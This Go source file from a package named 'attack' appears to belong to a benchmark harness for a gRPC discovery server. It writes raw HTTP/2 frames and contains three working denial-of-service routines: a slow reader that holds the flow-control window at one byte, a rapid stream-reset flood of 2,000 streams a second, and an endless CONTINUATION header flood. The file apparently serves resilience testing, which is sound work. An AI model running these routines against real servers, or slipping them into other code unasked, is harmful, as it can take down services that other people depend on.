package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"tributary/bench/wire"
)

// framed is a connection on which frames are written as no client of gRPC would.
type framed struct {
	net.Conn
	*http2.Framer

	headers []byte // of a stream of ADS
	next    uint32 // stream
}

func (r *run) framed(ctx context.Context, n int, settings ...http2.Setting) (*framed, error) {
	conn, err := r.dial(ctx, n)
	if err != nil {
		return nil, err
	}
	f := &framed{Conn: conn, Framer: http2.NewFramer(conn, conn), next: 1}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, h := range [][2]string{
		{":method", "POST"},
		{":scheme", "http"},
		{":path", wire.MethodDelta},
		{":authority", "x"},
		{"content-type", "application/grpc"},
		{"te", "trailers"},
	} {
		// into memory; not indexed, so that it can be sent again
		_ = encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true})
	}
	f.headers = block.Bytes()
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = f.WriteSettings(settings...)
	}
	if err != nil {
		_ = conn.Close()
		return nil, err
	}
	return f, nil
}

// open opens a stream.
func (f *framed) open() (id uint32, err error) {
	id = f.next
	f.next += 2
	return id, f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.headers, EndHeaders: true})
}

// readSlowly asks for everything, and takes a byte of it each second.
func readSlowly(ctx context.Context, r *run, n int) error {
	f, err := r.framed(ctx, n, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }()
	id, err := f.open()
	if err != nil {
		return err
	}
	request := wire.Subscription{Delta: true, Node: r.Node, TypeURL: r.TypeURL}.First()
	message := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(request))), request...)
	if err := f.WriteData(id, false, message); err != nil {
		return err
	}
	r.sent.Add(1)
	buffer := make([]byte, 1)
	for {
		if _, err := f.Read(buffer); err != nil {
			return err
		}
		if err := f.WriteWindowUpdate(id, 1); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Second):
		}
	}
}

// resetRapidly opens streams and resets them at once, 2,000 a second.
func resetRapidly(ctx context.Context, r *run, n int) error {
	f, err := r.framed(ctx, n)
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }()
	go func() { _, _ = io.Copy(io.Discard, f) }() // until it is closed
	return each(ctx, 2000, func() error {
		id, err := f.open()
		if err != nil {
			return err
		}
		r.sent.Add(1)
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// floodHeaders opens a stream with endless headers, 4 MB of them a second.
func floodHeaders(ctx context.Context, r *run, n int) error {
	f, err := r.framed(ctx, n)
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }()
	go func() { _, _ = io.Copy(io.Discard, f) }() // until it is closed
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for range 16 {
		_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: string(make([]byte, 1000)), Sensitive: true}) // into memory
	}
	first := http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.headers}
	if err := f.WriteHeaders(first); err != nil {
		return err
	}
	return each(ctx, 250, func() error {
		r.sent.Add(1)
		return f.WriteContinuation(1, false, block.Bytes())
	})
}
